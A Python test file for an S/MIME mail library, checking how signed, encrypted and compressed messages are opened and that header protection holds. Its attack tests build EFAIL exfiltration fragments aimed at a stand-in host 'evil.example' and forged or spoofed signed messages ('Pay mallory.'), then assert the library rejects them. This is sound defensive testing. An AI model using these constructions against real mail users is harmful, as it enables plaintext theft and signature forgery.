"""Whole messages opened from the outside in, honest ones and those of attackers."""

from __future__ import annotations

import base64
import os
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mta.model.opened import Fault, OpenedMessage
from mta.model.smime import SignatureStatus
from mta.rfc.mime.entity import scan_entity
from mta.rfc.mime.header import scan_header
from mta.rfc.smime.message import MAX_LAYERS, decrypted_message, open_message
from tests.support.cms_forge import certificates_only
from tests.support.corpora import files
from tests.support.smime_mail import (
    CONTENT,
    HEADER,
    MESSAGE,
    anna,
    berta,
    encrypt,
    envelope_of,
    mallory,
    sign,
    sign_and_encrypt,
)
from tests.unit.rfc.smime.test_compressed import compressed


def opened(message: bytes) -> OpenedMessage:
    return open_message(message, [berta().decryption_key])


def decrypted(message: bytes, *, trust_author: bool = True) -> bytes:
    block = scan_header(message, len(message))
    return decrypted_message(message, opened(message), trust_author=trust_author, block=block)


def layers(message: bytes) -> str:
    """`s` for a good signature, `x` for another, `e` for an envelope that opened, `l` for one that did not."""
    return "".join(
        ("s" if layer.signed.good else "x")
        if layer.signed
        else "e"
        if layer.envelope and layer.envelope.content
        else "l"
        for layer in opened(message).layers
    )


def p7m(body: bytes, kind: str = "enveloped-data") -> bytes:
    head = f"Content-Type: application/pkcs7-mime; smime-type={kind}\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    return head.encode() + base64.encodebytes(body).replace(b"\n", b"\r\n")


def entity_of(message: bytes) -> bytes:
    """The message without those header fields that are no Content-*."""
    return message[message.index(b"Content-Type:") :]


def mixed(*parts: bytes) -> bytes:
    return (
        HEADER
        + b"Content-Type: multipart/mixed; boundary=outer\r\n\r\n"
        + b"".join(b"--outer\r\n" + part + b"\r\n" for part in parts)
        + b"--outer--\r\n"
    )


@pytest.mark.parametrize("detached", [True, False])
def test_a_signed_message_gives_back_what_was_signed(detached: bool) -> None:
    found = opened(sign(MESSAGE, anna(), detached=detached))
    assert found.payload == CONTENT
    assert found.signatures[0].good
    assert found.signatures[0].signers[0].certificate == anna().der
    assert (found.fault, found.decrypted, found.encrypted) == (Fault.NONE, None, False)


@pytest.mark.parametrize("profile", ["default", "authenticated"])
def test_an_encrypted_message_comes_back_whole(profile: str) -> None:
    message = encrypt(MESSAGE, berta(), profile=profile)
    found = opened(message)
    assert found.payload == found.decrypted == CONTENT
    assert found.envelopes[0].authenticated is (profile == "authenticated")
    assert decrypted(message) == HEADER.replace(b"MIME-Version: 1.0\r\n", b"") + b"MIME-Version: 1.0\r\n" + CONTENT


def test_a_decrypted_message_keeps_the_signature_that_was_inside() -> None:
    plain = decrypted(sign_and_encrypt(MESSAGE, anna(), berta()))
    assert b"multipart/signed" in plain
    assert layers(plain) == "s"
    assert opened(plain).payload == CONTENT


def test_triple_wrapped() -> None:
    message = sign(encrypt(sign(MESSAGE, anna()), berta()), mallory())
    assert layers(message) == "ses"
    assert opened(message).payload == CONTENT
    assert layers(decrypted(message)) == "s"
    assert layers(encrypt(encrypt(sign(MESSAGE, anna(), detached=False), berta()), berta())) == "ees"


def test_more_layers_than_anybody_needs_are_not_opened() -> None:
    message = MESSAGE
    for _ in range(MAX_LAYERS + 1):
        message = sign(message, anna(), detached=False)
    found = opened(message)
    assert (len(found.layers), found.fault) == (MAX_LAYERS, Fault.UNSUPPORTED)


def test_without_the_key_it_stays_closed() -> None:
    found = opened(encrypt(MESSAGE, anna()))
    assert (found.fault, found.decrypted) == (Fault.LOCKED, None)
    assert "none of our keys" in found.reason
    assert CONTENT not in found.payload


def test_no_octet_of_a_changed_authenticated_envelope_comes_out() -> None:
    message = encrypt(MESSAGE, berta(), profile="authenticated")
    body = scan_entity(message).root.body
    der = bytearray(base64.b64decode(message[body:]))
    der[-40] ^= 1
    found = opened(HEADER + p7m(bytes(der), "authEnveloped-data"))
    assert (found.fault, found.decrypted) == (Fault.LOCKED, None)


# --- attacks --------------------------------------------------------------------------------------------------------


def test_efail_an_encrypted_part_beside_others_is_not_decrypted() -> None:
    """The frame would send the plaintext home: `<img src="http://evil.example/` before it, `">` behind."""
    part = entity_of(encrypt(MESSAGE, berta()))
    html = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/'
    for message in (mixed(html, part), mixed(part), mixed(part, html)):
        assert layers(message) == ""
        assert opened(message).decrypted is None
    attached = HEADER + b"Content-Type: message/rfc822\r\n\r\n" + encrypt(MESSAGE, berta())
    assert opened(attached).decrypted is None


def test_efail_what_follows_the_envelope_is_not_appended_to_its_plaintext() -> None:
    message = encrypt(MESSAGE, berta()) + b"\r\n\r\n<img src='http://evil.example/'>"
    assert b"evil" not in decrypted(message)
    inside = encrypt(HEADER + mixed(entity_of(encrypt(MESSAGE, berta()))).removeprefix(HEADER), berta())
    assert layers(inside) == "e"  # the part within is not opened either


def test_johnny_a_signed_part_beside_others_lends_its_signature_to_nobody() -> None:
    part = entity_of(sign(MESSAGE, anna()))
    assert layers(mixed(b"\r\nPay to another account.", part)) == ""
    assert layers(mixed(part)) == ""


def test_johnny_the_content_within_the_signature_does_not_stand_for_the_one_beside_it() -> None:
    genuine = sign(MESSAGE, anna(), detached=False)
    der = base64.b64decode(genuine[scan_entity(genuine).root.body :])
    frame = sign(MESSAGE, anna())
    root = scan_entity(frame).root
    _, part = root.parts
    forged = frame[: part.body] + base64.encodebytes(der).replace(b"\n", b"\r\n") + frame[part.end :]
    found = opened(forged.replace(b"The figures", b"Other figures"))
    assert not found.signatures[0].good
    assert found.signatures[0].signers[0].status is SignatureStatus.MALFORMED
    assert layers(forged) == "x"  # even where both say the same


def test_johnny_micalg_decides_nothing() -> None:
    message = sign(MESSAGE, anna())
    for word in (b"md5", b"none", b'"sha-1, sha-256"', b""):
        assert layers(message.replace(b"micalg=sha-256", b"micalg=" + word)) == "s"


def test_a_changed_text_is_no_longer_signed() -> None:
    message = sign(MESSAGE, anna())
    assert layers(message.replace(b"third quarter.", b"third quarter?")) == "x"


@pytest.mark.parametrize(
    "change",
    [
        lambda m: m.replace(
            b"Content-Type: multipart/signed", b"Content-Type: text/html\r\nContent-Type: multipart/signed"
        ),
        lambda m: m + b"\r\n--%s\r\n\r\nmore\r\n" % scan_entity(m).root.content_type.get("boundary").encode(),
        lambda m: m[: m.rindex(b"\r\n--")],
        lambda m: m.replace(b"\tmicalg=", b"\tboundary=zzz; micalg="),
        lambda m: m.replace(b"; boundary=", b"; x="),
        lambda m: m.replace(b"Content-Type: application/pkcs7-signature", b"Content-Type: text/plain"),
        lambda m: m.replace(b"\tmicalg=", b"\tboundary*0=zzz; micalg="),
        lambda m: _with_third_part(m),
        lambda m: m.replace(b"\r\n\r\nMI", b"\r\n\r\n!!"),
        lambda m: m.replace(b"Content-Transfer-Encoding: base64", b"Content-Transfer-Encoding: 7bit"),
    ],
)
def test_a_multipart_signed_that_readers_could_see_differently_is_malformed(change) -> None:  # type: ignore[no-untyped-def]
    found = opened(change(sign(MESSAGE, anna())))
    assert found.fault is Fault.MALFORMED
    assert not any(signature.good for signature in found.signatures)


EVIL = b"Content-Type: text/plain\r\n\r\nPay mallory.\r\n"


def _in_the_preamble(message: bytes, before: bytes, behind: bytes) -> bytes:
    """A part that those see who match a delimiter loosely."""
    boundary = scan_entity(message).root.content_type.get("boundary").encode()
    place = message.index(b"\r\n--" + boundary)
    return message[:place] + b"\r\n" + before + b"--" + boundary + behind + b"\r\n" + EVIL + message[place:]


def _in_the_signature(message: bytes, more: bytes) -> bytes:
    """More in the header of the part that is not signed."""
    return message.replace(
        b"Content-Type: application/pkcs7-signature", more + b"Content-Type: application/pkcs7-signature"
    )


LOOSE = [(b"", b"\x0b"), (b"", b"\xa0"), (b"", b"x"), (b" ", b""), (b"\t", b""), (b"\x0b", b""), (b"\xef\xbb\xbf", b"")]
UNSIGNED_HEADER = [
    b"X: y\r\n \r\nPay mallory.\r\n",
    b"X: y\r\n\t\t\r\nPay: mallory.\r\n",
    b" \r\n",
    b"Pay mallory.\r\n",
    b"Content-Type\x0b: text/plain\r\n",
    b"\xa0Content-Type: text/plain\r\n",
    b"Content-Type\r\n : text/plain\r\n",
    b"Content-Transfer-Encoding: 7bit\r\n" * 2,
    b"Content-Transfer-Encoding\x0b: 7bit\r\n",
]


@pytest.mark.parametrize(("before", "behind"), LOOSE)
def test_a_part_that_loose_readers_see_in_the_preamble(before: bytes, behind: bytes) -> None:
    assert opened(_in_the_preamble(sign(MESSAGE, anna()), before, behind)).fault is Fault.MALFORMED


@pytest.mark.parametrize(("before", "behind"), LOOSE)
def test_a_part_that_loose_readers_see_within_or_behind_the_signature(before: bytes, behind: bytes) -> None:
    message = sign(MESSAGE, anna())
    boundary = scan_entity(message).root.content_type.get("boundary").encode()
    more = b"\r\n" + before + b"--" + boundary + behind + b"\r\n" + EVIL
    end = message.rindex(b"\r\n--")
    assert opened(message[:end] + more + message[end:]).fault is Fault.MALFORMED
    assert opened(message + more).fault is Fault.MALFORMED


@pytest.mark.parametrize("more", UNSIGNED_HEADER)
def test_a_header_within_which_readers_begin_a_text(more: bytes) -> None:
    assert opened(_in_the_signature(sign(MESSAGE, anna()), more)).fault is Fault.MALFORMED
    for detached in (True, False):
        message = sign(MESSAGE, anna(), detached=detached)
        assert layers(message) == "s"
        outside = message.replace(b"MIME-Version", more + b"MIME-Version", 1)
        assert opened(outside).fault is Fault.MALFORMED


@pytest.mark.parametrize(
    "encoding", [b"base64\x0b", b"base64 (c)", b"\x0cbase64", b"x-base64", b"base64;", b'"base64"', b"\xa0base64"]
)
@pytest.mark.parametrize("detached", [True, False])
def test_an_encoding_that_readers_read_differently(encoding: bytes, detached: bool) -> None:
    message = sign(MESSAGE, anna(), detached=detached)
    changed = message.replace(b"Content-Transfer-Encoding: base64", b"Content-Transfer-Encoding: " + encoding)
    assert opened(changed).fault is Fault.MALFORMED


@pytest.mark.parametrize(
    "header",
    [
        b'Content-Type: multipart/signed (by hand); protocol="application/pkcs7-signature"; boundary="%s"',
        b"Content-Type: multipart/signed; protocol*=us-ascii''application%%2Fpkcs7-signature; boundary=\"%s\"",
    ],
)
def test_legal_types_seldom_seen_are_read(header: bytes) -> None:
    message = sign(MESSAGE, anna())
    block = scan_header(message, len(message))
    (field,) = (field for field in block.fields if field.name == b"content-type")
    boundary = scan_entity(message).root.content_type.get("boundary").encode()
    again = message[: field.start] + header % boundary + b"\r\n" + message[field.end :]
    assert layers(again) == "s"


def _with_third_part(message: bytes) -> bytes:
    boundary = scan_entity(message).root.content_type.get("boundary").encode()
    return message.replace(b"--" + boundary + b"--", b"--" + boundary + b"\r\n\r\nmore\r\n--" + boundary + b"--")


def test_a_signature_over_odd_structure_is_still_a_signature_over_its_octets() -> None:
    """How the signer's own parts are built is the signer's affair; the first part is octets."""
    odd = b"From ann@x Mon Jan 1\r\nContent-Type: multipart/mixed; boundary=q\r\n\r\n--q\r\n"
    message = sign(MESSAGE, anna())
    root = scan_entity(message).root
    first = root.parts[0]
    assert layers(message[: first.start] + odd + message[first.end :]) == "x"


@pytest.mark.parametrize("arc", [1, 4, 5, 6])
def test_other_types_of_cms_are_unsupported(arc: int) -> None:
    der = bytes.fromhex(f"3010 0609 2a864886f70d0107{arc:02x} a003 040100".replace(" ", ""))
    found = opened(HEADER + p7m(der, "signed-data"))
    assert (found.fault, found.layers) == (Fault.UNSUPPORTED, ())


def packed(entity: bytes) -> bytes:
    """An entity that is this one, compressed."""
    return p7m(compressed(zlib.compress(entity)), "compressed-data")


def test_compressed_content_is_unpacked_wherever_it_lies() -> None:
    inside = encrypt(HEADER + packed(CONTENT), berta())
    assert opened(inside).payload == opened(inside).decrypted == CONTENT
    assert opened(sign(HEADER + packed(CONTENT), anna())).payload == CONTENT
    around = opened(HEADER + packed(entity_of(sign(MESSAGE, anna()))))
    assert [layer.signed.good for layer in around.layers if layer.signed] == [True]
    assert around.payload == CONTENT
    assert opened(HEADER + packed(packed(CONTENT))).fault is Fault.UNSUPPORTED
    assert opened(HEADER + packed(bytes(10_000_001))).fault is Fault.MALFORMED


def test_certificates_alone_are_no_signature() -> None:
    found = opened(HEADER + p7m(certificates_only(anna().der), "signed-data"))
    assert (found.fault, found.layers) == (Fault.NONE, ())


# --- header protection ------------------------------------------------------------------------------------------------


def test_what_was_changed_on_the_way_is_named() -> None:
    message = sign(MESSAGE, anna(), headers="signed")
    assert opened(message).differing == ()
    changed = message.replace(b"Subject: the third quarter", b"Subject: [list] the third quarter", 1)
    changed = changed.replace(b"Date: Mon, 23", b"Date: Tue, 24", 1)
    found = opened(changed)
    assert found.signatures[0].good
    assert found.differing == ("subject", "date")
    assert found.author is not None
    assert str(found.author.authors[0]) == "anna@contoso.example"


def test_a_hidden_subject_comes_back() -> None:
    message = sign_and_encrypt(MESSAGE, anna(), berta(), headers="confidential")
    assert b"Subject: [...]\r\n" in message
    assert opened(message).differing == ()
    assert b"\r\nSubject: the third quarter\r\n" in decrypted(message)
    assert decrypted(message).startswith(b"Received: from x by y\r\nFrom: Anna")
    replaced = message.replace(b"Subject: [...]", b"Subject: urgent")
    assert opened(replaced).differing == ("subject",)
    assert b"urgent" not in decrypted(replaced)


def test_a_hidden_subject_comes_back_also_from_around_a_signed_message() -> None:
    message = encrypt(sign(MESSAGE, anna()), berta(), headers="confidential")
    assert b"Subject: [...]\r\n" in message
    assert b"\r\nSubject: the third quarter\r\n" in decrypted(message)
    assert layers(decrypted(message)) == "s"


def test_the_protected_from_comes_back_only_where_it_is_to_be_trusted() -> None:
    message = encrypt(MESSAGE, berta(), headers="confidential")
    changed = message.replace(b"From: Anna <anna@", b"From: Mallory <mallory@", 1)
    assert opened(changed).differing == ("from",)
    assert b"From: Mallory" in decrypted(changed, trust_author=False)
    assert b"From: Anna" in decrypted(changed, trust_author=True)


def test_from_inside_an_envelope_nobody_steers_programs() -> None:
    """Our border takes such fields out of mail, and cannot see into an envelope."""
    steering = b"X-Spam-Flag: NO\r\nAuthentication-Results: mx.contoso.example; dkim=pass\r\nX-MTA-SMIME: good\r\n"
    inside = b"Subject: hello\r\nKeywords: k\r\n" + steering + b'Content-Type: text/plain; hp="cipher"\r\n\r\nx\r\n'
    plain = decrypted(b"From: a@b.example\r\nSubject: [...]\r\n" + envelope_of(inside, berta()))
    assert plain == (
        b"From: a@b.example\r\nSubject: hello\r\nKeywords: k\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: text/plain; hp="cipher"\r\n\r\nx\r\n'
    )


def test_header_fields_inside_that_are_not_said_to_be_protected_mean_nothing() -> None:
    inside = b"Subject: another\r\nHP-Outer: Subject: x\r\n" + CONTENT
    message = encrypt(b"From: a@b\r\nSubject: outside\r\n\r\n", berta())
    assert open_message(inside).header.intent == ""
    forged = sign(b"From: a@b\r\n" + inside, anna())
    assert opened(forged).header.intent == ""
    assert b"Subject: outside\r\n" in decrypted(message)


@settings(max_examples=60, deadline=None)
@given(st.data())
def test_broken_messages_are_data_and_never_raise(data: st.DataObject) -> None:
    base = data.draw(st.sampled_from(_samples()))
    message = bytearray(base)
    for _ in range(data.draw(st.integers(1, 6))):
        at = data.draw(st.integers(0, len(message) - 1))
        message[at : at + data.draw(st.integers(0, 3))] = data.draw(st.binary(max_size=3))
    found = opened(bytes(message))
    assert (found.fault is Fault.NONE) == (not found.reason)


_SAMPLES: list[bytes] = []


def _samples() -> list[bytes]:
    if not _SAMPLES:
        _SAMPLES.extend((sign(MESSAGE, anna()), sign_and_encrypt(MESSAGE, anna(), berta(), headers="confidential")))
        _SAMPLES.append(HEADER + p7m(os.urandom(200)))
        _SAMPLES.append(sign(MESSAGE, anna(), detached=False))
    return _SAMPLES


@pytest.mark.parametrize("folder", ["smime-rfc4134", "smime-openssl", "pqc-lamps", "mime-flanker"])
def test_every_file_of_the_corpora_is_opened_without_a_crash(folder: str) -> None:
    for path in files(folder):
        raw = path.read_bytes()
        open_message(raw, [berta().decryption_key])
        open_message(HEADER + p7m(raw), [berta().decryption_key])
